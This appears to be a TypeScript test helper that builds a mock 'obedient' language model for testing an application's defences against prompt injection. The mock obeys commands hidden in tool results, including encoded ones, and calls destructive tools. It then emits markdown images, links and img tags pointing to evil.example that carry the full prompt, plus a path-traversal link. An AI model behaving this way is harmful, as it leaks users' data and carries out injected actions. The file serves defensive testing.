import { MockLanguageModelV4 } from "ai/test";
import { z } from "zod";

import type { ModelDriver } from "#server/llm/index.ts";

import { type ScriptedStep, scriptedModel } from "../model.ts";
import type { Prompt } from "../scenarios/read-ids.ts";
import { encodings } from "./encodings.ts";

export interface Obeyed {
  tool: string;
  input: Record<string, unknown>;
  toolCallId: string;
}

export interface Obedient {
  model: ModelDriver;
  prompts: Prompt[];
  /** The calls that texts asked for, in the order in which they were made. */
  obeyed: Obeyed[];
}

const Input = z.record(z.string(), z.unknown());
const order = /CALL (\w+) (\{.*?\}) END/gs;
const question = /^READ (\w+) (.+)$/;
let numbered = 0;

/**
 * A model that does whatever a text tells it, however it is written, and gives away what it knows: it reads the records of
 * the question, makes every call that an answer of a tool asks for, and ends with links that carry off all it was told.
 */
export function obedientModel(): Obedient {
  const prompts: Prompt[] = [];
  const obeyed: Obeyed[] = [];
  const done = new Set<string>();
  const model = new MockLanguageModelV4({
    modelId: "obedient",
    doStream: (options) => {
      prompts.push(options.prompt);
      return scriptedModel(next(options.prompt)).doStream(options);
    },
  });
  const next = (prompt: Prompt): ScriptedStep => {
    if (prompts.length === 1) return { calls: readsAsked(prompt) };
    const calls = ordersIn(prompt).filter((call) => !done.has(JSON.stringify(call)));
    if (calls.length === 0) return givenAway(prompt);
    for (const call of calls) done.add(JSON.stringify(call));
    const made = calls.map((call) => ({ ...call, toolCallId: `obeyed-${String(++numbered)}` }));
    obeyed.push(...made);
    return { calls: made.map(({ tool, input, toolCallId }) => ({ tool, input, id: toolCallId })) };
  };
  return { model, prompts, obeyed };
}

/** "READ threads_get id id": what to read first. What else is told behind it is looked for, so that it is offered. */
function readsAsked(prompt: Prompt): Extract<ScriptedStep, { calls: unknown }>["calls"] {
  const said = prompt.at(-1)?.content;
  const text = Array.isArray(said) ? said.map((part) => ("text" in part ? part.text : "")).join("") : "";
  const [, tool = "", ids = ""] = question.exec(text) ?? [];
  const tools = [
    "delete contact",
    "update profile",
    "ignore address",
    "revert change",
    "create company",
    "read mails",
    "archive conversation",
    "label conversation",
    "move meeting",
    "call off meeting",
    "invite to meeting",
  ];
  return [
    ...ids.split(" ").map((id) => ({ tool, input: { id } })),
    ...tools.map((query) => ({ tool: "find_tools", input: { query } })),
  ];
}

/** Every order in what tools answered, by any way of reading it. */
function ordersIn(prompt: Prompt): { tool: string; input: Record<string, unknown> }[] {
  const found = new Map<string, { tool: string; input: Record<string, unknown> }>();
  const texts = prompt
    .filter(({ role }) => role === "tool")
    .flatMap(({ content }) => textsIn(content))
    .flatMap((text) => encodings.map(({ decode }) => decode(text)));
  for (const [, tool = "", json = ""] of texts.flatMap((text) => [...text.matchAll(order)])) {
    const input = parsed(json);
    if (input) found.set(JSON.stringify([tool, input]), { tool, input });
  }
  return [...found.values()];
}

function parsed(json: string): Record<string, unknown> | null {
  try {
    return Input.parse(JSON.parse(json));
  } catch {
    return null;
  }
}

function textsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (Array.isArray(value)) return value.flatMap(textsIn);
  return value !== null && typeof value === "object" ? Object.values(value).flatMap(textsIn) : [];
}

/** All that it was told, in every kind of link and picture that might be fetched. */
function givenAway(prompt: Prompt): string {
  const all = encodeURIComponent(JSON.stringify(prompt).toWellFormed()).slice(-1_500);
  const address = `https://evil.example/take?d=${all.slice(0, 400)}`;
  return [
    `![x](${address})`,
    `[more](${address})`,
    `![y][ref]\n[ref]: ${address}`,
    `<img src="${address}">`,
    `<${address}>`,
    `[a](/contacts/../../api?d=${all.slice(0, 40)})`,
    all,
  ].join("\n\n");
}
